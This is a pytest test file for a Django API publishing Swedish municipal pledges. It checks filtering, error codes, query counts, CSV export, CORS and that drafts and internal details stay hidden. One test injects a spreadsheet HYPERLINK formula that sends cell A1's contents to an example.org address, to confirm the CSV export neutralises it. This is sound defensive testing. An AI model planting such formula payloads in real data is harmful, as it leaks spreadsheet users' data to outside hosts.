import csv
import io
import json

import pytest

from pledges.models import Pledge
from pledges.public_cache import public_cache_clear
from pledges.tests.public_data import DRAFT_TITLE, SECRET, draft_pledge, published_pledge

pytestmark = pytest.mark.django_db


def get(client, address, **headers):
    return client.get(address, HTTP_ACCEPT=headers.pop("accept", "application/json"), **headers)


def test_it_lists_published_and_ended_pledges_with_commitments_and_progress(client):
    pledge = published_pledge("2417")
    published_pledge("1442", status=Pledge.Status.ENDED)
    draft = draft_pledge("2417")
    response = get(client, "/api/v1/pledges/?buckets=true")
    assert response.status_code == 200
    data = response.json()
    assert data["count"] == 2
    ids = [item["id"] for item in data["results"]]
    assert pledge.pk in ids
    assert draft.pk not in ids
    item = next(item for item in data["results"] if item["id"] == pledge.pk)
    commitment = item["focus_areas"][0]["commitments"][0]
    assert commitment["target"]["text"] == "minst 10 per månad"
    assert commitment["wording"] == "Minst 10 kontroller per månad"
    assert "internal_details" not in commitment
    buckets = commitment["progress"]["buckets"]
    assert [b["status"] for b in buckets[:4]] == ["met", "met", "met", "not_reported"]
    assert buckets[0] == {
        "start": "2024-01-01",
        "end": "2024-01-31",
        "target": 10,
        "quantity": 10,
        "entries": 1,
        "status": "met",
        "missed_reason": "",
        "corrective_action": "",
    }
    assert item["compliance"] == 0.25


def test_a_list_gives_totals_and_a_single_pledge_every_period(client):
    pledge = published_pledge("2417")

    def first_commitment_progress(data):
        return data["focus_areas"][0]["commitments"][0]["progress"]

    listed = first_commitment_progress(get(client, "/api/v1/pledges/").json()["results"][0])
    assert "buckets" not in listed
    assert listed["met"] == 3 and listed["compliance"] == 3 / listed["elapsed"]
    single = first_commitment_progress(get(client, f"/api/v1/pledges/{pledge.pk}/").json())
    assert [b["status"] for b in single["buckets"][:4]] == ["met", "met", "met", "not_reported"]
    assert {key: value for key, value in single.items() if key != "buckets"} == listed
    for value in ("true", "1"):
        assert "buckets" in first_commitment_progress(
            get(client, f"/api/v1/pledges/?buckets={value}").json()["results"][0]
        )
    response = get(client, "/api/v1/pledges/?buckets=perhaps")
    assert response.status_code == 400
    assert "buckets" in response.json()


def test_internal_details_and_drafts_appear_in_no_api_output(client):
    published_pledge("2417")
    draft = draft_pledge("2417")
    for address in (
        "/api/v1/pledges/",
        "/api/v1/pledges/?format=csv",
        "/api/v1/indicators/",
        "/api/v1/dialogues/",
        "/api/v1/municipalities/?has_pledges=true",
        "/api/v1/schema/",
    ):
        body = get(client, address, accept="*/*").content.decode()
        assert SECRET not in body, address
        assert DRAFT_TITLE not in body, address
        assert "internal_details" not in body, address
    assert get(client, f"/api/v1/pledges/{draft.pk}/").status_code == 404
    assert get(client, f"/api/v1/dialogues/?pledge={draft.pk}").json()["count"] == 0


@pytest.mark.parametrize(
    ("query", "count"),
    [
        ("kommunkod=2417", 1),
        ("kommunkod=1442", 0),
        ("lan=24", 1),
        ("lan=14", 0),
        ("status=published", 1),
        ("status=ended", 0),
        ("year=2024", 1),
        ("year=2026", 0),
        ("theme=traffic", 1),
        ("theme=narcotics", 0),
    ],
)
def test_it_filters_pledges(client, query, count):
    published_pledge("2417")
    draft_pledge("2417")
    response = get(client, f"/api/v1/pledges/?{query}")
    assert response.status_code == 200
    assert response.json()["count"] == count


@pytest.mark.parametrize(
    "query",
    [
        "kommunkod=0000",
        "kommunkod=abc",
        "lan=99",
        "status=draft",
        "status=withdrawn",
        "year=abc",
        "year=1800",
        "theme=aliens",
        "page=2",
        "page=0",
        "page=abc",
        "page_size=0",
        "page_size=101",
        "page_size=100000000000000000000",
    ],
)
def test_bad_input_is_a_400_with_a_json_error(client, query):
    published_pledge("2417")
    response = get(client, f"/api/v1/pledges/?{query}")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json()


@pytest.mark.parametrize(
    "address",
    [
        "/api/v1/pledges/abc/",
        "/api/v1/pledges/0/",
        "/api/v1/pledges/999999/",
        "/api/v1/pledges/99999999999999999999999/",
        "/api/v1/indicators/abc/",
        "/api/v1/dialogues/99999999999999999999999/",
        "/api/v1/municipalities/0000/",
    ],
)
def test_an_unknown_id_is_a_404_never_a_500(client, address):
    assert get(client, address).status_code == 404


def test_the_lists_run_a_fixed_number_of_queries(client, django_assert_num_queries):
    published_pledge("2417")
    counts = {
        # 1 count, 2 pledges, 3 municipalities, 4 police areas, 5 parties, 6 signatories, 7 focus areas with
        # their findings, 8 commitments, 9 responsible; progress: 10 today's snapshots, and for pledges without
        # one 11 logged sums, 12 missed periods, 13 storing the new snapshots
        "/api/v1/pledges/": 13,
        "/api/v1/pledges/?page=1": 10,  # the same pledges again: their snapshots are fresh
        "/api/v1/pledges/?kommunkod=2417": 11,  # + the kommunkod's municipality (validating the filter)
        "/api/v1/pledges/?buckets=true": 10,  # every period too, from the same snapshots
        "/api/v1/pledges/?format=csv": 9,  # all pledges, unpaginated: no count
        "/api/v1/municipalities/": 3,  # 1 count, 2 municipalities with pledge counts, 3 police areas with region
        "/api/v1/indicators/": 3,  # 1 count, 2 indicators with municipality and police area, 3 values
        "/api/v1/dialogues/": 4,  # 1 count, 2 dialogues with municipality and place, 3 findings, 4 public pledges
    }
    for _round in range(2):
        for address, count in counts.items():
            with django_assert_num_queries(count):
                assert get(client, address, accept="*/*").status_code == 200, address
        published_pledge("2417", n=1, commitments=3)
        published_pledge("1442", n=2, commitments=1)


def test_every_list_downloads_as_csv(client):
    pledge = published_pledge("2417")
    response = client.get("/api/v1/pledges/?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["title"] for row in rows] == [pledge.title]
    assert json.loads(rows[0]["focus_areas"])[0]["title"] == "Trafik"
    for address in ("/api/v1/municipalities/", "/api/v1/indicators/", "/api/v1/dialogues/"):
        response = client.get(address + "?format=csv")
        assert response.status_code == 200
        assert len(list(csv.DictReader(io.StringIO(response.content.decode())))) >= 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_is_never_a_live_spreadsheet_formula(client, start):
    pledge = published_pledge("2417")
    title = start + 'HYPERLINK("https://example.org/?"&A1;"Klicka")'
    Pledge.objects.filter(pk=pledge.pk).update(title=title)

    response = client.get("/api/v1/pledges/?format=csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["title"] for row in rows] == ["'" + title]  # the apostrophe makes it text in Excel and Calc
    assert rows[0]["id"] == str(pledge.pk)  # numbers stay numbers


def test_cors_is_open_for_get_on_the_api_only(client):
    published_pledge("2417")
    response = get(client, "/api/v1/pledges/", HTTP_ORIGIN="https://www.norsjo.se")
    assert response["Access-Control-Allow-Origin"] == "*"
    assert "Access-Control-Allow-Credentials" not in response
    page = client.get("/kommuner/2417/", HTTP_ORIGIN="https://www.norsjo.se")
    assert "Access-Control-Allow-Origin" not in page
    assert client.post("/api/v1/pledges/", {}, HTTP_ORIGIN="https://www.norsjo.se").status_code == 405


def test_the_schema_and_the_docs_page_are_served_from_here(client):
    schema = client.get("/api/v1/schema/?format=json")
    assert schema.status_code == 200
    document = schema.json()
    assert document["openapi"].startswith("3.")
    assert "/api/v1/pledges/" in document["paths"]
    docs = client.get("/api/v1/docs/").content.decode()
    assert "vendor/swagger-ui/swagger-ui-bundle.js" in docs
    assert "https://" not in docs.replace("https://www.w3.org", "")


def test_the_municipality_list_counts_public_pledges_only(client):
    published_pledge("2417")
    draft_pledge("1442")
    public_cache_clear()
    data = get(client, "/api/v1/municipalities/?has_pledges=true").json()
    assert [m["kommunkod"] for m in data["results"]] == ["2417"]
    assert data["results"][0]["published_pledges"] == 1
    assert get(client, "/api/v1/municipalities/1442/").json()["published_pledges"] == 0
